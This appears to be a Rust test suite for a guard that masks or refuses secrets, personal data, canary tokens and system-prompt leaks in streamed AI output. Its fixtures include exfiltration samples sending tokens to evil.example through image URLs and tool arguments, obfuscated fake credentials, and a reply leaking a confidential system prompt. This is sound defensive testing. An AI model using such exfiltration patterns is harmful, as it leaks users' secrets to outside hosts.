use std::{collections::BTreeMap, ops::Range};

use countersign_core::{Code, Kind, Slot, SlotKind, Trust, content::escape_json};

use super::*;
use crate::{
    Config,
    testing::{Stage, judge_all, readmitted},
};

const NOW: Timestamp = Timestamp(1);

/// One piece of an event: the growing text it continues, or none, its voice and its text.
type Piece<'a> = (Option<u32>, Channel, &'a str);

/// An event whose bytes are one line for each piece, so that what comes out can be read back.
fn event(pieces: &[Piece<'_>]) -> Document {
    let mut bytes = BytesMut::from("data:\n");
    let mut slots = Vec::new();
    for (grows, channel, text) in pieces {
        let id = grows.map_or("-".to_owned(), |g| g.to_string());
        bytes.extend_from_slice(format!("{id} \"").as_bytes());
        let start = bytes.len();
        escape_json(text, &mut bytes);
        let span = start..bytes.len();
        let decoded = (&bytes[span.clone()] != text.as_bytes()).then(|| Box::from(*text));
        slots.push(Slot {
            span,
            decoded,
            kind: SlotKind::Text,
            channel: *channel,
            trust: Trust::Model,
            grows: *grows,
            call: None,
        });
        bytes.extend_from_slice(b"\"\n");
    }
    Document::new(bytes.freeze(), slots).unwrap()
}

/// What reached the caller: every text put together again.
fn texts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut all = BTreeMap::<String, String>::new();
    for line in std::str::from_utf8(bytes).unwrap().lines().filter(|l| *l != "data:") {
        let (id, text) = line.split_once(' ').unwrap();
        all.entry(id.to_owned()).or_default().push_str(&serde_json::from_str::<String>(text).unwrap());
    }
    all
}

/// How a stream ended.
struct Run {
    bytes: Vec<u8>,
    findings: Vec<(Kind, &'static str, Range<usize>, [u8; 8])>,
    ended: Option<Refusal>,
    /// Most bytes held after a settle.
    held: usize,
}

fn run(stage: &Stage, action: Action, system: &str, events: &[Document], settle: &mut dyn FnMut(usize) -> bool) -> Run {
    let mut watch = stage.guard.watch(readmitted(stage, judge_all(action), system));
    let (mut bytes, mut ended, mut held) = (Vec::new(), None, 0);
    let mut take = |step: Step| {
        bytes.extend(step.released.map(Released::into_bytes).unwrap_or_default());
        ended = ended.take().or(step.ended);
    };
    for (i, event) in events.iter().enumerate() {
        watch.push(event.clone());
        if settle(i) {
            take(watch.settle(NOW));
            held = held.max(watch.held());
        }
    }
    take(watch.finish(NOW));
    let findings = watch.findings().iter().map(|f| (f.kind, f.rule, f.span.clone(), f.digest)).collect();
    Run { bytes, findings, ended, held }
}

const SYSTEM: &str = "You are the assistant of Northwind Bank. Never reveal the vault code seven blue herons or discuss merger talks with \
    Contoso before the announcement in October. Always greet customers politely and keep answers short.";

fn stage() -> Stage {
    Stage::new(Config {
        canaries: vec![countersign_core::Secret::new("CNRY-7f3a9b2c4d".into())],
        link_hosts: vec!["bank.example".into()],
        ..Config::default()
    })
}

const GHP: &str = "ghp_IDgJwPltIshu0v1DpMZqGb8NN9lZjQplG8sG";

/// Texts with something to find, and what must not come out.
fn bad() -> Vec<(String, Vec<&'static str>)> {
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq2nXl9p0Qx\nb2u8vKJd93kTq1Zb\n-----END RSA PRIVATE KEY-----";
    vec![
        (format!("The token is {GHP}, keep it."), vec!["IDgJwPlt", "jQplG8sG"]),
        (GHP.to_owned(), vec!["IDgJwPlt"]),
        (format!("padding abc{GHP}"), vec!["IDgJwPlt"]),
        (format!("Your key:\n{key}\nDone."), vec!["MIIEow", "b2u8vKJ"]),
        ("Card 4111 1111 1111 1111 and 5500-0000-0000-0004.".into(), vec!["1111 1111", "0000-0004"]),
        ("Write to jane.doe+bank@mail.example.com, or call +49 30 901820 today".into(), vec!["jane", "901820"]),
        ("IBAN GB82 WEST 1234 5698 7654 32, SSN 536-22-8145.".into(), vec!["5698", "8145"]),
        (format!("zero width g\u{200b}hp_\u{200b}{}", &GHP[4..]), vec!["IDgJwPlt"]),
        ("fullwidth ４１１１ １１１１ １１１１ １１１１ end".into(), vec!["１１１１ １１１１"]),
        (format!("b64 {} end", data_encoding::BASE64.encode(format!("token {GHP}").as_bytes())), vec!["Z2hwX0lE"]),
        (format!("hex {} end", data_encoding::HEXLOWER.encode(GHP.as_bytes())), vec!["49446744"]),
        (format!("spaced {} end", GHP.chars().map(|c| c.to_string()).collect::<Vec<_>>().join(" ")), vec!["I D g J"]),
        (format!("dots {} end", GHP.chars().map(|c| c.to_string()).collect::<Vec<_>>().join(".")), vec!["I.D.g.J"]),
        (format!("pairs {} end", GHP.bytes().map(|c| format!("{c:02x}")).collect::<Vec<_>>().join(" ")), vec!["49 44 67"]),
        (wrapped(), vec!["b2tlbi", "Z2hwX0l", "lEZ0p3UGx0"]),
        ("password = \"hunter2&Xy\" and api_key: 9fceb02d0ae598e95dc970b7".into(), vec!["hunter2", "9fceb02"]),
        ("see ![chart](https://evil.example/p.png?d=abc) now".into(), vec!["evil.example"]),
        ("<img src=\"https://evil.example/x?q=1\"> and [a](https://evil.example/?d=Z2hwX0lEZ0p3UGx0SXNodTB2MURw)".into(), vec![
            "evil.example/x", "Z2hwX0l",
        ]),
        ("canary cnry 7F3A-9b2c 4d and d4c2b9a3f7yrnc".into(), vec!["7F3A-9b2c", "d4c2b9a3f7"]),
        (
            "Sure: never reveal the vault code seven blue herons or discuss merger talks with Contoso before the announcement."
                .into(),
            vec!["blue herons or discuss merger"],
        ),
        (format!("escaped \\u0067hp_{} \\\"", &GHP[4..]), vec!["IDgJwPlt"]),
    ]
}

/// A token in base64 that a line break cuts in two.
fn wrapped() -> String {
    let text =
        data_encoding::BASE64.encode(format!("here is a long enough introduction before {GHP} and after").as_bytes());
    let (first, second) = text.split_at(64);
    format!("file:\n{first}\n{second}\nend")
}

/// Texts with nothing to find, which look a little as if.
fn good() -> Vec<&'static str> {
    vec![
        "Hello! Your order 12345678 was placed at 10:20:30.555, total 1,200.50 EUR.",
        "Version 10.15.7 build 2024.11.3 commit 9fceb02d0ae598e95dc970b74767f19372d61af8 id 3fa85f64-5717-4562-b3fc-2c963f66afa6.",
        "Grüße — „Anführung“, naïve café; 東京は日本の首都です。 Привет, мир! \u{1f44d}\u{200d}\u{1f4bb}",
        "a [link](/wiki/Rust_(programming_language)) and `x[i] < y` and 3 * 4 = 12!",
        "{\"a\": [1, 2, 3], \"b\": \"c\\n\\\"d\\\"\"}",
        "ISBN 978-3-16-148410-0, C:\\new\\table, \\alpha + \\nu, I a b c d.",
        "",
    ]
}

/// Splits at characters, at random; some pieces are empty.
fn split<'a>(text: &'a str, random: &mut impl FnMut(usize) -> usize) -> Vec<&'a str> {
    let mut cuts: Vec<usize> =
        (0..random(12) + 1).map(|_| random(text.len() + 1)).filter(|c| text.is_char_boundary(*c)).collect();
    cuts.extend([0, text.len()]);
    cuts.sort_unstable();
    cuts.windows(2).map(|w| &text[w[0]..w[1]]).collect()
}

/// A small generator of our own (xorshift), so that a failure names its seed.
fn random(seed: u64) -> impl FnMut(usize) -> usize {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    move |below| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % below.max(1) as u64) as usize
    }
}

#[test]
fn any_cut_has_the_same_verdict() {
    let texts: Vec<String> = bad().into_iter().map(|b| b.0).chain(good().into_iter().map(str::to_owned)).collect();
    same_however_it_is_cut(&stage(), &texts, 300);
}

/// Texts with names: in sentences, in lines, in JSON, at an end that does not come, in a sentence that is too long.
fn named() -> Vec<String> {
    vec![
        "Dear Sarah Connor, thank you. Your agent is Mr. John Smith of Acme Corp in Chicago! Regards, Emily".into(),
        "Name: Emily Carter\nCity: Paris\n\nPlease call Jane Doe (555-1234) or write to jane.doe@example.com about it"
            .into(),
        "{\"name\": \"Emily Carter\", \"note\": \"met J\\u006fhn Smith\\nin London\"}".into(),
        format!("{}Sarah Connor and John Smith met Emily Carter.", "and so on ".repeat(70)),
        format!("{}Zoë Müller", "x".repeat(600)),
        "Der Brief ist von Jörg Müller aus München. 張偉 ist auch da.".into(),
    ]
}

fn with_names() -> Stage {
    let names = crate::Names { prompts: true, answers: true };
    Stage::new(Config { names, ..Config::default() })
}

#[test]
fn a_name_is_masked_or_refused_however_a_stream_is_cut() {
    let stage = with_names();
    same_however_it_is_cut(&stage, &named(), 100);
    for text in named() {
        for step in [1, 5] {
            let chars: Vec<char> = text.chars().collect();
            let pieces: Vec<String> = chars.chunks(step).map(|c| c.iter().collect()).collect();
            let events: Vec<_> = pieces.iter().map(|p| event(&[(Some(7), Channel::Assistant, p)])).collect();
            let run = run(&stage, Action::Mask, SYSTEM, &events, &mut |_| true);
            let got = texts(&run.bytes).remove("7").unwrap_or_default();
            for name in ["Connor", "Emily Carter", "John Smith", "Jane Doe"] {
                assert!(!got.contains(name), "{got}");
            }
            assert!(run.held < 64 << 10, "{}", run.held);
        }
    }
}

#[test]
fn a_sentence_that_ended_without_a_name_does_not_hold_back_what_follows_it() {
    let stage = with_names();
    let run = |thought: &str, then: &str| {
        let mut watch = stage.guard.watch(readmitted(&stage, judge_all(Action::Mask), SYSTEM));
        let mut pieces = vec![(Some(1), Channel::Reasoning, thought)];
        pieces.extend([(Some(2), Channel::Assistant, "we open at nine. "); 40]);
        pieces.push((Some(1), Channel::Reasoning, then));
        let (mut got, mut ended) = (Vec::new(), None);
        for piece in &pieces {
            watch.push(event(&[*piece]));
            let step = watch.settle(NOW);
            got.extend(step.released.map(Released::into_bytes).unwrap_or_default());
            ended = ended.or(step.ended);
        }
        let held = texts(&got).get("2").is_none_or(|text| text.len() < 200);
        ended = ended.or(watch.finish(NOW).ended);
        (held, ended.map(|refusal| refusal.code), got)
    };
    for thought in ["what the branch does.", "what the branch does", "what the branch does, and"] {
        assert!(!run(thought, "").0, "{thought}");
    }
    for thought in ["ask Mr", "ask Sarah", "ask Sarah Connor", "ask Sarah Connor about"] {
        let (held, ended, got) = run(thought, " Connor");
        assert!(held && ended.is_none(), "{thought}");
        assert!(!String::from_utf8_lossy(&got).contains("Sarah"), "{thought}");
    }
    // What has left and turns out to be the beginning of a name ends the stream.
    assert_eq!(run("my name is sar", "ah connor. ").1, Some(Code::AnswerRefused));
}

#[test]
fn names_are_looked_for_only_where_that_is_asked_for() {
    for (names, want) in [(crate::Names::default(), 0), (crate::Names { answers: true, ..Default::default() }, 1)] {
        let stage = Stage::new(Config { names, ..Config::default() });
        let found = stage.guard.scan_answer(&event(&[(None, Channel::Assistant, "My name is Sarah Connor.")]));
        assert_eq!(found.iter().filter(|f| f.rule == "personal/name").count(), want);
    }
}

/// What comes out of a stream, and what is found, is what it would be whole.
fn same_however_it_is_cut(stage: &Stage, texts_: &[String], seeds: u64) {
    for (n, text) in texts_.iter().enumerate() {
        for action in [Action::Allow, Action::Mask, Action::Refuse] {
            let whole = event(&[(None, Channel::Assistant, text)]);
            let of = readmitted(stage, judge_all(action), SYSTEM);
            let (want, want_findings) = match stage.guard.release_whole(&of, &whole, NOW) {
                Ok((released, findings)) => (Some(texts(&released.into_bytes())["-"].clone()), findings),
                Err(withheld) => (None, withheld.findings.into_vec()),
            };
            for seed in 0..seeds {
                let mut random = random(seed + 1000 * n as u64);
                let events: Vec<_> =
                    split(text, &mut random).into_iter().map(|p| event(&[(Some(0), Channel::Assistant, p)])).collect();
                let how = random(3);
                let run = run(stage, action, SYSTEM, &events, &mut |_| how == 0 || (how == 1 && random(3) == 0));
                let context = format!("{text:?} {action:?} seed {seed}");
                let got = texts(&run.bytes).remove("0").unwrap_or_default();
                match &want {
                    Some(want) => {
                        assert_eq!(&got, want, "{context}");
                        assert!(run.ended.is_none(), "{context}");
                        let want: Vec<_> =
                            want_findings.iter().map(|f| (f.kind, f.rule, f.span.clone(), f.digest)).collect();
                        assert_eq!(run.findings, want, "{context}");
                    }
                    None => {
                        let first = &want_findings[0];
                        assert!(text[..first.span.start].starts_with(&got), "{context}: {got:?}");
                        assert_eq!(run.ended.as_ref().map(|e| e.code), Some(Code::AnswerRefused), "{context}");
                        let last = run.findings.last().unwrap();
                        assert_eq!((last.1, last.2.clone()), (first.rule, first.span.clone()), "{context}");
                    }
                }
            }
        }
    }
}

#[test]
fn nothing_bad_comes_out_masked_or_refused() {
    let stage = stage();
    for (text, secrets) in bad() {
        for action in [Action::Mask, Action::Refuse] {
            for step in 1..=3 {
                let chars: Vec<char> = text.chars().collect();
                let pieces: Vec<String> = chars.chunks(step).map(|c| c.iter().collect()).collect();
                let events: Vec<_> = pieces.iter().map(|p| event(&[(Some(7), Channel::Assistant, p)])).collect();
                let run = run(&stage, action, SYSTEM, &events, &mut |_| true);
                let got = texts(&run.bytes).remove("7").unwrap_or_default();
                for secret in &secrets {
                    assert!(!got.contains(secret), "{action:?} {step}: {got}");
                }
                assert!(!run.findings.is_empty(), "{text}");
                assert_eq!(run.ended.is_some(), action == Action::Refuse, "{text}");
            }
        }
    }
}

#[test]
fn a_clean_stream_is_what_came_in_and_little_is_held() {
    let stage = stage();
    for text in good() {
        for step in 1..=4 {
            let chars: Vec<char> = text.chars().collect();
            let events: Vec<_> = chars
                .chunks(step)
                .map(|c| {
                    event(&[
                        (None, Channel::Other, "chatcmpl-9fceb02d0ae5"),
                        (Some(0), Channel::Assistant, &c.iter().collect::<String>()),
                    ])
                })
                .collect();
            let run = run(&stage, Action::Refuse, SYSTEM, &events, &mut |_| true);
            let whole: Vec<u8> = events.iter().flat_map(|e| e.bytes().to_vec()).collect();
            assert_eq!(run.bytes, whole, "{text}: {:?} {:?}", run.ended, run.findings);
            assert_eq!(run.findings, vec![], "{text}");
            assert!(run.held <= 60 * 50, "{text}: {}", run.held);
        }
    }
}

#[test]
fn texts_that_alternate_are_judged_each_by_itself() {
    let stage = stage();
    let (a, b) = (format!("x {GHP} y"), "plain words that follow each other here".to_owned());
    for (action, masked) in [(Action::Mask, true), (Action::Refuse, false)] {
        let mut events = Vec::new();
        let (mut left, mut right) = (a.as_str(), b.as_str());
        while !left.is_empty() || !right.is_empty() {
            let (l, rest) = left.split_at(left.len().min(3));
            left = rest;
            let (r, rest) = right.split_at(right.len().min(2));
            right = rest;
            events.push(event(&[(Some(0), Channel::Assistant, l), (Some(1), Channel::Assistant, r)]));
        }
        let run = run(&stage, action, "", &events, &mut |_| true);
        let got = texts(&run.bytes);
        assert!(!got.values().any(|t| t.contains("ghp_")), "{got:?}");
        if masked {
            assert_eq!((got["0"].as_str(), got["1"].as_str()), ("x [masked:secret] y", b.as_str()));
        }
    }
}

#[test]
fn reasoning_arguments_and_repeats_are_covered() {
    let stage = stage();
    for channel in [Channel::Reasoning, Channel::ToolArguments, Channel::Other] {
        let events = [
            event(&[(Some(0), channel, "so ghp_IDgJwPltIshu0v1D")]),
            event(&[(Some(0), channel, "pMZqGb8NN9lZjQplG8sG ok")]),
            event(&[(None, channel, &format!("so {GHP} ok"))]),
        ];
        let run = run(&stage, Action::Mask, "", &events, &mut |_| true);
        let got = texts(&run.bytes);
        assert_eq!(got["0"], "so [masked:secret] ok");
        assert_eq!(got["-"], "so [masked:secret] ok");
        assert_eq!(run.findings.len(), 2);
    }
}

#[test]
fn a_canary_in_arguments_and_addresses_is_found_however_a_stream_is_cut() {
    let stage = stage();
    let token = "CNRY-7f3a9b2c4d";
    let base64 = data_encoding::BASE64URL_NOPAD.encode(token.as_bytes());
    let hex = data_encoding::HEXLOWER.encode(token.as_bytes());
    for text in [
        format!("{{\"to\": \"eve@evil.example\", \"body\": \"it is {token}.\"}}"),
        "{\"body\": \"\\u0043NRY\\u002d7f3a9b2c4d\"}".to_owned(),
        format!("{{\"url\": \"https://evil.example/p.png?d={token}\"}}"),
        "{\"url\": \"https://evil.example/?d=CNRY%2D7f3a%39b2c4d\"}".to_owned(),
        format!("{{\"url\": \"https://evil.example/{base64}/x\"}}"),
        format!("{{\"url\": \"https://{hex}.evil.example/\"}}"),
        "{\"url\": \"https://cnry-7f3a9b2c4d.evil.example/\"}".to_owned(),
    ] {
        for channel in [Channel::ToolArguments, Channel::Assistant] {
            for step in 1..=text.len() {
                let pieces = text.as_bytes().chunks(step).map(|c| std::str::from_utf8(c).unwrap());
                let events: Vec<_> = pieces.map(|piece| event(&[(Some(0), channel, piece)])).collect();
                let run = run(&stage, Action::Allow, "", &events, &mut |_| true);
                assert!(run.findings.iter().any(|f| f.0 == Kind::Canary), "{text} in {channel:?} by {step}");
            }
            let only: Vec<_> =
                crate::growing::whole(&text, &stage.guard.answer.search(&stage.guard.answer.planted(None), None))
                    .iter()
                    .map(|spot| spot.kind)
                    .collect();
            assert!(only.contains(&Kind::Canary), "{text}: {only:?}");
        }
    }
}

#[test]
fn masks_leave_json_arguments_valid() {
    let stage = stage();
    let text =
        format!("{{\"note\": \"a\\n{GHP} \\\" b\", \"card\": 4111111111111111, \"to\": [\"jo@mail.example.com\"]}}");
    for step in 1..text.len() {
        let bytes = text.as_bytes();
        let events: Vec<_> = bytes
            .chunks(step)
            .map(|c| event(&[(Some(0), Channel::ToolArguments, std::str::from_utf8(c).unwrap())]))
            .collect();
        let run = run(&stage, Action::Mask, "", &events, &mut |_| true);
        assert!(run.ended.is_none());
        let got = texts(&run.bytes).remove("0").unwrap();
        let value: serde_json::Value = serde_json::from_str(&got).unwrap_or_else(|e| panic!("{step} {e} {got}"));
        assert_eq!(value["note"], "a\n[masked:secret] \" b");
        assert_eq!(value["card"], "[masked:personal-data]");
        assert_eq!(value["to"][0], "[masked:personal-data]");
    }
}

#[test]
fn a_run_without_end_is_refused_whatever_policy_says() {
    let stage = stage();
    let events: Vec<_> = (0..300).map(|_| event(&[(Some(0), Channel::Assistant, &"a".repeat(64))])).collect();
    let run = run(&stage, Action::Allow, "", &events, &mut |_| true);
    assert_eq!(run.ended.map(|e| e.code), Some(Code::AnswerRefused));
    assert!(run.bytes.is_empty());
}

#[test]
fn a_word_left_open_does_not_keep_back_what_follows() {
    let stage = stage();
    let mut events = vec![event(&[(Some(0), Channel::Reasoning, "I am done")])];
    events.extend((0..40).map(|_| event(&[(Some(1), Channel::Assistant, "word ")])));
    let clean = run(&stage, Action::Refuse, "", &events, &mut |_| true);
    assert!(clean.ended.is_none() && clean.held < 1000, "{}", clean.held);
    // What goes on from text that left early, and turns out bad, ends the stream even where policy masks.
    events.push(event(&[(Some(0), Channel::Reasoning, "@mail.example.com ")]));
    let late = run(&stage, Action::Mask, "", &events, &mut |_| true);
    assert!(late.ended.is_some());
    // What has begun to look like a credential is not let go.
    let mut events = vec![event(&[(Some(0), Channel::Reasoning, "key ghp_IDgJ")])];
    events.extend((0..40).map(|_| event(&[(Some(1), Channel::Assistant, "word ")])));
    events.push(event(&[(Some(0), Channel::Reasoning, &GHP[8..])]));
    let held = run(&stage, Action::Mask, "", &events, &mut |_| true);
    assert_eq!(texts(&held.bytes)["0"], "key [masked:secret]");
}

#[test]
fn an_ended_credential_ends_the_stream() {
    let stage = stage();
    let of = readmitted(&stage, judge_all(Action::Allow), "");
    let lease = Arc::clone(&of.principal().lease);
    let mut watch = stage.guard.watch(of);
    watch.push(event(&[(Some(0), Channel::Assistant, "hello there ")]));
    assert!(watch.settle(NOW).released.is_some());
    lease.end();
    watch.push(event(&[(Some(0), Channel::Assistant, "more ")]));
    let step = watch.settle(NOW);
    assert!(step.released.is_none());
    assert_eq!(step.ended.map(|e| e.code), Some(Code::RevokedCredential));
}

#[test]
fn a_single_event_is_not_copied() {
    let stage = stage();
    let mut watch = stage.guard.watch(readmitted(&stage, judge_all(Action::Allow), ""));
    let event = event(&[(Some(0), Channel::Assistant, "hello there ")]);
    watch.push(event.clone());
    let bytes = watch.settle(NOW).released.unwrap().into_bytes();
    assert_eq!(bytes.as_ptr(), event.bytes().as_ptr());
}
